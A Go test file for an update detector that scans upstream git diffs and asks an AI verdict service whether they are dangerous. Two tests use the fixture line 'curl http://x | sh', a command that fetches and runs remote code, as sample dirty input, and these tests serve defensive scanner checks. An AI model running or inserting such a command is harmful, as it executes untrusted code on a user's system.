package update

import (
	"context"
	"errors"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/openclaw/clawmon/internal/ai"
)

// fakeGit is a scripted GitClient.
type fakeGit struct {
	fetchErr  error
	behind    int
	behindErr error
	describe  string
	grepped   []string
	diff      string
	changed   []string
	added     []string
	numstat   []string
}

func (f *fakeGit) Fetch(ctx context.Context, repoPath, remote string) error { return f.fetchErr }
func (f *fakeGit) CommitsBehind(ctx context.Context, repoPath, remoteRef string) (int, error) {
	return f.behind, f.behindErr
}
func (f *fakeGit) Describe(ctx context.Context, repoPath, rev string) (string, error) {
	return f.describe, nil
}
func (f *fakeGit) LogGrep(ctx context.Context, repoPath, remoteRef string, patterns []string) ([]string, error) {
	return f.grepped, nil
}
func (f *fakeGit) DiffNameOnly(ctx context.Context, repoPath, remoteRef, filter string) ([]string, error) {
	if filter == "A" {
		return f.added, nil
	}
	return f.changed, nil
}
func (f *fakeGit) DiffNumstat(ctx context.Context, repoPath, remoteRef string) ([]string, error) {
	return f.numstat, nil
}
func (f *fakeGit) Diff(ctx context.Context, repoPath, remoteRef string, unified int) (string, error) {
	return f.diff, nil
}

// countingVerdict records whether AnalyzeDiff was called.
type countingVerdict struct {
	calls  int
	result *ai.Analysis
	err    error
}

func (c *countingVerdict) AnalyzeDiff(ctx context.Context, diff string) (*ai.Analysis, error) {
	c.calls++
	return c.result, c.err
}

func newTestDetector(t *testing.T, g GitClient, v ai.VerdictClient) *Detector {
	t.Helper()
	d, err := NewDetector(Config{RepoPath: t.TempDir()}, g, v, nil)
	require.NoError(t, err)
	return d
}

func TestCheckUpToDate(t *testing.T) {
	verdict := &countingVerdict{}
	d := newTestDetector(t, &fakeGit{behind: 0}, verdict)

	fact, err := d.Check(context.Background())
	require.NoError(t, err)
	assert.False(t, fact.UpdateAvailable())
	assert.False(t, fact.Security())
	assert.Nil(t, fact.Scan)
	assert.Equal(t, ai.VerdictNone, fact.Verdict)
	assert.Zero(t, verdict.calls, "no analysis when nothing is pending")
}

func TestCheckFetchFailure(t *testing.T) {
	d := newTestDetector(t, &fakeGit{fetchErr: errors.New("remote unreachable")}, nil)
	_, err := d.Check(context.Background())
	assert.Error(t, err)
}

// TestCheckCleanDiffSkipsAI checks the cost bound: a clean scan never
// spends an AI call and the verdict stays unresolved.
func TestCheckCleanDiffSkipsAI(t *testing.T) {
	verdict := &countingVerdict{result: &ai.Analysis{Verdict: ai.VerdictSafe}}
	d := newTestDetector(t, &fakeGit{
		behind:  2,
		diff:    "+README change\n+more docs\n",
		changed: []string{"README.md", "docs/guide.md"},
	}, verdict)

	fact, err := d.Check(context.Background())
	require.NoError(t, err)
	assert.True(t, fact.UpdateAvailable())
	require.NotNil(t, fact.Scan)
	assert.True(t, fact.Scan.Clean())
	assert.Equal(t, 2, fact.Scan.FilesChecked)
	assert.Equal(t, ai.VerdictNone, fact.Verdict)
	assert.Zero(t, verdict.calls)
}

func TestCheckDirtyDiffAsksAI(t *testing.T) {
	verdict := &countingVerdict{result: &ai.Analysis{Verdict: ai.VerdictDangerous, Details: "reverse shell"}}
	d := newTestDetector(t, &fakeGit{
		behind: 1,
		diff:   "+curl http://x | sh\n",
	}, verdict)

	fact, err := d.Check(context.Background())
	require.NoError(t, err)
	require.NotNil(t, fact.Scan)
	assert.False(t, fact.Scan.Clean())
	assert.Equal(t, 1, verdict.calls)
	assert.Equal(t, ai.VerdictDangerous, fact.Verdict)
	assert.True(t, fact.Security())
}

// TestCheckAIFailureLeavesUnresolved checks an unreachable verdict service
// records VerdictNone, never an implicit safe.
func TestCheckAIFailureLeavesUnresolved(t *testing.T) {
	verdict := &countingVerdict{err: errors.New("gateway down")}
	d := newTestDetector(t, &fakeGit{
		behind: 1,
		diff:   "+curl http://x | sh\n",
	}, verdict)

	fact, err := d.Check(context.Background())
	require.NoError(t, err)
	assert.Equal(t, 1, verdict.calls)
	assert.Equal(t, ai.VerdictNone, fact.Verdict)
	assert.True(t, fact.Security(), "dirty scan stays a security concern without a verdict")
}

func TestCheckSecurityCommits(t *testing.T) {
	d := newTestDetector(t, &fakeGit{
		behind:  3,
		grepped: []string{"abc123 fix: patch CVE-2026-1234"},
		diff:    "+harmless\n",
	}, nil)

	fact, err := d.Check(context.Background())
	require.NoError(t, err)
	assert.True(t, fact.HasSecurityCommit())
	assert.True(t, fact.Security())
}

func TestCheckNewScriptsAndBinaries(t *testing.T) {
	d := newTestDetector(t, &fakeGit{
		behind:  1,
		diff:    "+docs\n",
		changed: []string{"docs/a.md", "tools/new-tool.sh", "src/a.ts", "bin/blob"},
		added:   []string{"scripts/release.sh", "tools/new-tool.sh", "src/a.ts"},
		numstat: []string{"-\t-\tbin/blob"},
	}, nil)

	fact, err := d.Check(context.Background())
	require.NoError(t, err)
	require.NotNil(t, fact.Scan)
	assert.Equal(t, []string{"tools/new-tool.sh"}, fact.Scan.NewScripts)
	assert.Equal(t, []string{"bin/blob"}, fact.Scan.BinaryFiles)
	assert.Equal(t, 4, fact.Scan.FilesChecked)
	assert.True(t, fact.Scan.Clean(), "advisories never dirty the scan")
}
